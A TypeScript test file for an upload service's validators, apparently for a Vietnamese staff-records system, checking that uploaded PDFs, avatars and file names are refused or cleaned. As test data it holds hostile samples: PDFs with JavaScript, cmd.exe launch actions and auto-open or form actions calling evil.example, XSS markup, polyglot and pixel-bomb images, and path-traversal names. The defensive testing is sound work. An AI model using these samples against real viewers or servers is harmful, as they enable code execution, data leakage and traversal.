import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import {
  bombPng,
  packedObjects,
  pdfStream,
  samplePdf,
  samplePicture,
  uploadForm,
} from '#server/test/samples/sample-files.ts'
import { startTestServer, type Caller, type TestServer } from '#server/test/harness.ts'
import { makePerson } from '#server/test/people.ts'

let server: TestServer
let minh: Caller
let idCanBo: string

beforeAll(async () => {
  server = await startTestServer()
  minh = await server.as('minh')
  idCanBo = (await makePerson(server, minh)).id
})
afterAll(() => server.stop())

const send = (content: Buffer, name = 'Quyết định.pdf', type = 'application/pdf') =>
  minh.upload('Files/upload-file-hs', uploadForm({ idCanBo, index: '4' }, content, { name, type }))
const sendAvatar = (content: Buffer, name = 'avatar.jpg', type = 'image/jpeg') =>
  minh.upload('CanBoCongChuc/update-avatar', uploadForm({ idCanBo }, content, { name, type }))

const notAPdf = 'Chỉ chấp nhận tệp PDF.'
const damaged = 'Tệp PDF bị hỏng hoặc không đọc được.'
const active = 'Tệp PDF chứa mã lệnh hoặc tệp nhúng nên không được chấp nhận.'
const outgoing = 'Tệp PDF chứa lệnh tự mở địa chỉ, gửi hoặc nạp dữ liệu bên ngoài nên không được chấp nhận.'
const encrypted = 'Tệp PDF đang được đặt mật khẩu. Vui lòng gỡ mật khẩu rồi tải lại.'
const whole = samplePdf()

describe('Papers', () => {
  test.each<[string, string, () => Buffer | Promise<Buffer>]>([
    ['a program', notAPdf, () => Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(500)])],
    ['a page of HTML', notAPdf, () => Buffer.from('<html><script>alert(1)</script></html>')],
    ['an SVG', notAPdf, () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['an archive', notAPdf, () => Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200)])],
    ['a picture', notAPdf, () => samplePicture('png', 40, 40)],
    ['a PDF after other bytes', notAPdf, () => Buffer.concat([Buffer.from('GIF89a '), whole])],
    ['the first bytes alone', damaged, () => Buffer.from('%PDF-1.7\n')],
    ['an unknown version', damaged, () => Buffer.concat([Buffer.from('%PDF-9.x'), whole.subarray(8)])],
    ['a cut file', damaged, () => whole.subarray(0, whole.length - 60)],
    [
      'no table of objects',
      damaged,
      () => Buffer.from(whole.toString('latin1').replace('\nxref', '\nXREF'), 'latin1'),
    ],
    [
      'a page of HTML with a PDF’s beginning',
      damaged,
      () => Buffer.from('%PDF-1.5\n<html><script>alert(1)</script></html>'),
    ],
    [
      'a password',
      encrypted,
      () => samplePdf({ objects: ['<< /Filter /Standard /V 4 >>'], trailer: '/Encrypt 5 0 R' }),
    ],
    ['a script', active, () => samplePdf({ objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] })],
    [
      'a script with an escaped name',
      active,
      () => samplePdf({ objects: ['<< /S /J#61vaScript /JS (app.alert(1)) >>'] }),
    ],
    ['a script at opening', active, () => samplePdf({ trailer: '/OpenAction << /S /JavaScript /JS (x) >>' })],
    ['a program to launch', active, () => samplePdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] })],
    [
      'a launch with an escaped name',
      active,
      () => samplePdf({ objects: ['<< /S /#4caunch /F (cmd.exe) >>'] }),
    ],
    [
      'a file inside',
      active,
      () => samplePdf({ objects: [pdfStream('/Type /EmbeddedFile', Buffer.from('MZ'))] }),
    ],
    [
      'a script in a compressed table',
      active,
      () => samplePdf({ objects: [packedObjects('9 0 << /S /JavaScript /JS (x) >>')] }),
    ],
    [
      'an escaped script in a compressed table',
      active,
      () => samplePdf({ objects: [packedObjects('9 0 << /S /Java#53cript >>')] }),
    ],
    [
      'a password in a compressed table',
      encrypted,
      () => samplePdf({ objects: [packedObjects('9 0 << /Encrypt 3 0 R >>')] }),
    ],
    [
      'a table that is packed twice',
      damaged,
      () =>
        samplePdf({
          objects: [pdfStream('/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', Buffer.from('x'))],
        }),
    ],
    [
      'a table that can’t be opened',
      damaged,
      () => samplePdf({ objects: [pdfStream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('garbage'))] }),
    ],
    [
      'a table that grows beyond measure',
      damaged,
      () => samplePdf({ objects: [packedObjects('0'.repeat(60_000_000))] }),
    ],
    [
      'objects inside a stream that is none',
      active,
      () =>
        samplePdf({ objects: ['(x)\n% >>\nstream\n9 0 obj << /S /#4caunch /F (x) >> endobj\nendstream'] }),
    ],
    ['nothing', 'Tệp tin không có nội dung.', () => Buffer.alloc(0)],
  ])('%s is refused', async (_, message, make) => {
    expect(await send(await make())).toMatchObject({ code: 27, status: 200, message, detail: [{ message }] })
  })

  const toAddress = '<< /S /URI /URI (http://evil.example/) >>'
  test.each<[string, () => Buffer]>([
    ['an address at opening', () => samplePdf({ trailer: `/OpenAction ${toAddress}` })],
    [
      'an address at opening in another object',
      () => samplePdf({ trailer: '/OpenAction 5 0 R', objects: [toAddress] }),
    ],
    [
      'an address at opening behind two references',
      () => samplePdf({ trailer: '/OpenAction 5 0 R', objects: ['6 0 R', toAddress] }),
    ],
    [
      'an opening with an escaped name',
      () => samplePdf({ trailer: '/Open#41ction 5 0 R', objects: [toAddress.replace('/URI', '/#55RI')] }),
    ],
    [
      'an opening with comments between',
      () => samplePdf({ trailer: `/OpenAction%x\n%y\n<<%z\n/S%\n/URI /URI (x)>>` }),
    ],
    [
      'an action at opening that is followed by another',
      () => samplePdf({ trailer: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${toAddress} >>` }),
    ],
    [
      'two actions under one number',
      () =>
        samplePdf({
          trailer: '/OpenAction 5 0 R',
          objects: ['[3 0 R /Fit]', `(x) endobj 5 0 obj ${toAddress}`],
        }),
    ],
    [
      'an action whose kind is another object',
      () => samplePdf({ trailer: '/OpenAction << /S 5 0 R >>', objects: ['/URI'] }),
    ],
    ['an opening that leads nowhere', () => samplePdf({ trailer: '/OpenAction 77 0 R' })],
    [
      'an address at opening in a compressed table',
      () => samplePdf({ objects: [packedObjects(`9 0 << /Type /Catalog /OpenAction ${toAddress} >>`)] }),
    ],
    [
      'an address in a compressed table, opened from outside',
      () => samplePdf({ trailer: '/OpenAction 9 0 R', objects: [packedObjects(`9 0 ${toAddress}`)] }),
    ],
    [
      'an address when a page is turned to',
      () => samplePdf({ objects: [`<< /Type /Page /AA << /O ${toAddress} >> >>`] }),
    ],
    [
      'the same in other objects',
      () => samplePdf({ objects: ['<< /Type /Page /AA 6 0 R >>', '<< /C 7 0 R >>', toAddress] }),
    ],
    ['a form that is sent', () => samplePdf({ objects: ['<< /S /SubmitForm /F (http://evil.example/) >>'] })],
    ['a form that is sent, escaped', () => samplePdf({ objects: ['<< /S /#53ubmitForm /F (x) >>'] })],
    [
      'a form that is sent, packed',
      () => samplePdf({ objects: [packedObjects('9 0 << /S /SubmitForm >>')] }),
    ],
    ['data that is fetched', () => samplePdf({ objects: ['<< /S /ImportData /F (\\\\host\\x) >>'] })],
    [
      'a document on another machine',
      () => samplePdf({ objects: ['<< /S /GoToR /F (\\\\host\\share\\a.pdf) /D [0 /Fit] >>'] }),
    ],
    [
      'the same, packed and escaped',
      () => samplePdf({ objects: [packedObjects('9 0 << /S /GoTo#52 /F (x) >>')] }),
    ],
    ['a form that is a program', () => samplePdf({ objects: ['<< /XFA [(config) 6 0 R] >>'] })],
    [
      'a file named by its address',
      () => samplePdf({ objects: ['<< /FS /URL /F (http://evil.example/x.jpg) >>'] }),
    ],
    ['a film from elsewhere', () => samplePdf({ objects: ['<< /S /Rendition /R 6 0 R >>'] })],
  ])('%s is refused', async (_, make) => {
    expect(await send(make())).toMatchObject({ code: 27, status: 200, message: outgoing })
  })

  test.each<[string, () => Buffer]>([
    ['a page to begin at', () => samplePdf({ trailer: '/OpenAction [3 0 R /Fit]' })],
    [
      'a page to begin at, as an action',
      () => samplePdf({ trailer: '/OpenAction 5 0 R', objects: ['<< /S /GoTo /D [3 0 R /XYZ 0 0 1] >>'] }),
    ],
    [
      'a page to begin at, packed',
      () =>
        samplePdf({
          trailer: '/OpenAction 9 0 R',
          objects: [packedObjects('9 0 << /Type /Action /S /GoTo /D [3 0 R /Fit] >>')],
        }),
    ],
    [
      'a link that somebody presses',
      () => samplePdf({ objects: [`<< /Type /Annot /Subtype /Link /A ${toAddress} >>`] }),
    ],
    [
      'a font that is called AA',
      () =>
        samplePdf({
          objects: [
            '<< /Font << /AA 6 0 R >> >>',
            '<< /Type /Font /FontDescriptor 7 0 R >>',
            '<< /Type /FontDescriptor >>',
          ],
        }),
    ],
    ['a font whose name begins so', () => samplePdf({ objects: ['<< /BaseFont /AAAAAA+Times >>'] })],
  ])('%s passes', async (_, make) => {
    expect(await send(make())).toMatchObject({ code: 0 })
  })

  test('What comes after the end of a PDF stays bytes of a PDF', async () => {
    const up = await send(Buffer.concat([whole, Buffer.from('PK\x05\x06'), Buffer.alloc(18)]))
    const answer = await minh.raw(`Files/view/${up.data.fileId}`)
    expect(answer.headers.get('content-type')).toBe('application/pdf')
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
  })

  test('Compressed data that only looks like a name passes', async () => {
    const stream = pdfStream('/Filter /DCTDecode', Buffer.from('\u00ff/JS \u00fe/JS(', 'latin1'))
    const table = packedObjects('9 0 << /Type /Font /BaseFont /ABCDEE+Times#20New#20Roman >>')
    expect(await send(samplePdf({ objects: [stream, table] }))).toMatchObject({ code: 0 })
  })

  test('More than 20 MB is refused with the reason, far more at once', async () => {
    const large = Buffer.concat([whole, Buffer.alloc(20 * 1_048_576)])
    expect(await send(large)).toMatchObject({
      code: 27,
      message: 'Dung lượng tệp PDF không được vượt quá 20 MB.',
    })
    expect((await send(Buffer.alloc(65 * 1_048_576))).status).toBe(413)
  })
})

describe('Pictures', () => {
  const notAPicture = 'Chỉ chấp nhận ảnh PNG hoặc JPEG.'
  test.each<[string, string, () => Buffer | Promise<Buffer>]>([
    ['a PDF', notAPicture, () => whole],
    [
      'an SVG',
      notAPicture,
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ],
    ['a WebP', notAPicture, () => samplePicture('webp', 40, 40)],
    ['a GIF', notAPicture, () => samplePicture('gif', 40, 40)],
    ['a moving PNG', notAPicture, () => movingPng()],
    [
      'a page of HTML with a JPEG’s beginning',
      notAPicture,
      () => Buffer.from('\xff\xd8\xff\xe0<script>alert(1)</script>', 'latin1'),
    ],
    ['half a JPEG', notAPicture, async () => (await samplePicture('jpeg', 900, 900)).subarray(0, 400)],
    ['400 million pixels', 'Ảnh có kích thước điểm ảnh quá lớn.', () => bombPng(20_000, 20_000)],
    ['four billion pixels a side', notAPicture, () => bombPng(0x7fffffff, 0x7fffffff)],
    ['nothing', 'Tệp tin không có nội dung.', () => Buffer.alloc(0)],
  ])('%s is refused', async (_, message, make) => {
    expect(await sendAvatar(await make())).toMatchObject({ code: 27, message })
  })

  test('More than 2 MB is refused in the specification’s words', async () => {
    const large = Buffer.concat([await samplePicture('jpeg', 40, 40), Buffer.alloc(2_097_152)])
    const message = 'Kích thước ảnh không được vượt quá 2MB.'
    expect(await sendAvatar(large)).toMatchObject({ code: 27, message })
    expect(
      await minh.upload('Files/upload', uploadForm({ code: 'AVATAR' }, large, { part: 'files' })),
    ).toMatchObject({ code: 27, message })
  })

  test('A picture that is also a page or an archive keeps its pixels only', async () => {
    const polyglot = Buffer.concat([
      await samplePicture('jpeg', 300, 300),
      Buffer.from('<script>alert(1)</script>PK\x05\x06'),
    ])
    const up = await sendAvatar(polyglot, 'page.html', 'text/html')
    expect(up.code).toBe(0)
    const bytes = Buffer.from(await (await minh.raw(`Files/view/${up.data.fileId}`)).arrayBuffer())
    expect(bytes.includes('<script>')).toBe(false)
    expect(bytes.includes('PK\x05\x06')).toBe(false)
  })
})

/** A PNG with the chunk that makes it move. */
async function movingPng(): Promise<Buffer> {
  const still = await samplePicture('png', 20, 20)
  const chunk = Buffer.alloc(20)
  chunk.writeUInt32BE(8, 0)
  chunk.write('acTL', 4, 'latin1')
  chunk.writeUInt32BE(2, 8)
  return Buffer.concat([still.subarray(0, 33), chunk, still.subarray(33)])
}

describe('Names', () => {
  test.each([
    ['../../../etc/passwd', 'passwd.pdf'],
    ['..\\..\\windows\\system32\\cmd.exe', 'cmd.exe.pdf'],
    ['C:\\fakepath\\Quyết định bổ nhiệm.PDF', 'Quyết định bổ nhiệm.pdf'],
    ['/', 'tep-tin.pdf'],
    ['....pdf', 'tep-tin.pdf'],
    ['.htaccess', 'htaccess.pdf'],
    ['Quyết định.pdf'.normalize('NFD'), 'Quyết định.pdf'],
    ['luong\u202Efdp.exe', 'luongfdp.exe.pdf'],
    ['an\u200Bninh\u2066.pdf', 'anninh.pdf'],
    ['<script>alert(1)</script>.pdf', 'script_.pdf'],
    ['a:b|c?d*e"f.pdf', 'a_b_c_d_e_f.pdf'],
    ['con.pdf', '_con.pdf'],
    ['LPT1', '_LPT1.pdf'],
    ['Số 12.2024', 'Số 12.2024.pdf'],
    ['   nhiều   khoảng  trắng  .pdf', 'nhiều khoảng trắng.pdf'],
    ['ả'.repeat(400), `${'ả'.repeat(146)}.pdf`],
    ['😀.pdf', '😀.pdf'],
    ['{{7*7}}.pdf', '{{7_7}}.pdf'],
  ])('%j is kept as %j', async (given, kept) => {
    const up = await send(whole, given)
    expect(up).toMatchObject({ code: 0, data: { fileName: kept, ext: '.pdf' } })
    const answer = await minh.raw(`Files/download/${up.data.fileId}`)
    expect(answer.headers.get('content-disposition')).toContain(
      `filename*=UTF-8''${encodeURIComponent(kept)}`,
    )
  })
})

test('Broken multipart bodies are 400s', async () => {
  const headers = { 'content-type': 'multipart/form-data; boundary=x' }
  for (const body of [
    'nonsense',
    '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.5',
    '--x--',
  ]) {
    const answer = await minh.raw('Files/upload', { method: 'POST', headers, body })
    const { code } = (await answer.json()) as { code: number }
    expect([code, answer.status]).toSatisfy(
      ([c, s]: number[]) => (c === -1 && s === 400) || (c === 21 && s === 200),
    )
  }
  const bare = await minh.raw('Files/upload', {
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data' },
    body: 'x',
  })
  expect(bare.status).toBe(400)
})
